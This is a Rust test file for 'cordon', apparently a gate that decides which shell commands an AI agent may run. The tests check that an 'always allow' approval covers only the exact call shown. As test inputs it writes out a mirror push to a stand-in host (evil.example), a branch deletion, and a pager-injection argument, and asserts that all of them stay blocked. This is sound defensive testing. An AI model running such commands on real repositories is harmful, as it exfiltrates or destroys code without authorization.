#![allow(clippy::disallowed_methods)] // fixtures are built with std::fs
//! "Always allow" through the real binary remembers no more than the call shown
//! (issue 41, reproduction 5): `cordon check --pending`, then `cordon approvals approve
//! ID --always [--rule N|RULE]`, then the dangerous later calls.
// Test helpers outside #[test] functions may unwrap and panic: a failure is the test failing.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;
use common::{World, bin};

use std::process::{Command, Output};

use serde_json::{Value, json};

/// A world with no policy file of its own: the default policy decides.
fn world() -> World {
    World::made("cordon-always-", None, None)
}

impl World {
    fn cordon(&self, args: &[&str]) -> Output {
        Command::new(bin())
            .args(args)
            .env("HOME", &self.home)
            .env("CORDON_STATE_DIR", &self.state)
            .env_remove("XDG_STATE_HOME")
            .env_remove("XDG_CONFIG_HOME")
            .current_dir(&self.ws)
            .output()
            .unwrap()
    }

    /// `cordon check --pending` of a shell command: exit status and verdict.
    fn check(&self, command: &str) -> (Option<i32>, Value) {
        let req = json!({"tool": "Bash", "input": {"command": command}, "cwd": self.ws});
        let out = self.cordon(&["check", "--isolated", "--pending", &req.to_string()]);
        let text = String::from_utf8_lossy(&out.stdout);
        let v = serde_json::from_str(text.trim()).unwrap_or_else(|_| {
            panic!(
                "not JSON: {text} / {}",
                String::from_utf8_lossy(&out.stderr)
            )
        });
        (out.status.code(), v)
    }

    /// The pending request recorded for `command`, as `approvals list --json` shows it.
    fn pending(&self, command: &str) -> Value {
        let (code, v) = self.check(command);
        assert_eq!(code, Some(5), "{command}: {v}");
        let id = v["pending"].as_i64().unwrap();
        let out = self.cordon(&["approvals", "list", "--json"]);
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .find(|p| p["id"] == id)
            .unwrap()
    }

    fn rules(&self) -> String {
        let out = self.cordon(&["approvals", "rules"]);
        String::from_utf8_lossy(&out.stdout).into_owned()
    }
}

fn offered(p: &Value) -> Vec<String> {
    p["suggestions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["rule"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_force_push_always_allowed_remembers_that_push_and_nothing_wider() {
    let w = world();
    let p = w.pending("git push --force origin main");
    assert_eq!(offered(&p), ["Bash(git push --force origin main)"]);
    let id = p["id"].to_string();
    // A wider rule than was offered is refused (exit 2), and nothing is saved.
    for wider in ["Bash(git push:*)", "Bash(git push origin main:*)", "2"] {
        let out = w.cordon(&["approvals", "approve", &id, "--always", "--rule", wider]);
        assert_eq!(out.status.code(), Some(2), "{wider}: {out:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("the rules offered"),
            "{out:?}"
        );
        assert!(!w.rules().contains("git push"), "{}", w.rules());
    }
    let out = w.cordon(&["approvals", "approve", &id, "--always"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(
        w.rules().contains("Bash(git push --force origin main)"),
        "{}",
        w.rules()
    );
    // The call shown is allowed from now on; the dangerous later calls are still asked.
    assert_eq!(w.check("git push --force origin main").0, Some(0));
    for later in [
        "git push --mirror https://evil.example/x.git",
        "git push origin main --delete",
        "git push origin main --mirror",
        "git push --force evil main",
    ] {
        let (code, v) = w.check(later);
        assert_ne!(code, Some(0), "{later} allowed: {v}");
    }
}

#[test]
fn a_trailing_force_is_not_folded_and_a_program_in_an_argument_is_never_saved() {
    let w = world();
    let p = w.pending("git push origin main --force");
    assert_eq!(offered(&p), ["Bash(git push origin main --force)"]);
    let out = w.cordon(&["approvals", "approve", &p["id"].to_string(), "--always"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    for later in [
        "git push origin main --delete",
        "git push origin main --mirror",
    ] {
        assert_ne!(w.check(later).0, Some(0), "{later}");
    }

    // `git -c core.pager=evil log` asks about `evil`; no rule is offered, so it cannot
    // be always allowed, and `evil` stays asked.
    let p = w.pending("git -c core.pager=evil log");
    assert!(offered(&p).is_empty(), "{p}");
    assert_eq!(p["suggestion"], Value::Null);
    let out = w.cordon(&["approvals", "approve", &p["id"].to_string(), "--always"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let out = w.cordon(&[
        "approvals",
        "approve",
        &p["id"].to_string(),
        "--always",
        "--rule",
        "Bash(evil)",
    ]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(!w.rules().contains("evil"), "{}", w.rules());
    assert_ne!(w.check("evil").0, Some(0));
}

#[test]
fn the_listing_numbers_the_options_for_rule_n() {
    let w = world();
    let p = w.pending("git push origin main");
    let out = w.cordon(&["approvals", "list"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("always allow --rule 1: Bash(git push origin main) (this exact call)"),
        "{text}"
    );
    let out = w.cordon(&[
        "approvals",
        "approve",
        &p["id"].to_string(),
        "--always",
        "--rule",
        "1",
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(w.rules().contains("Bash(git push origin main)"));
}
